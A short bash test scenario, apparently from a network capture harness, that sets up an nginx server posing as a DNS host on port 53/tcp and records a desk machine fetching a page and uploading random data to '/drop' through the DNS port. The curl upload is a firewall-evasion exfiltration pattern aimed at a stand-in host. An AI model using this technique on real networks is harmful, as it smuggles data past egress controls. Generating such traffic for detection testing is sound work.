#!/usr/bin/env bash
# HTTP over 53/tcp, through the hole that is meant for DNS.
. "$(dirname "$0")/../../lib.sh"
needs nginx-light curl

host desk 10.20.3.14
host web 203.0.113.53
web web ns.example.net 53

record
head -c 5000 /dev/urandom | base64 >"$work/upload.txt"
quiet desk curl -s --resolve ns.example.net:53:203.0.113.53 http://ns.example.net:53/
quiet desk curl -s --resolve ns.example.net:53:203.0.113.53 --data-binary @"$work/upload.txt" http://ns.example.net:53/drop
finish nginx-light curl
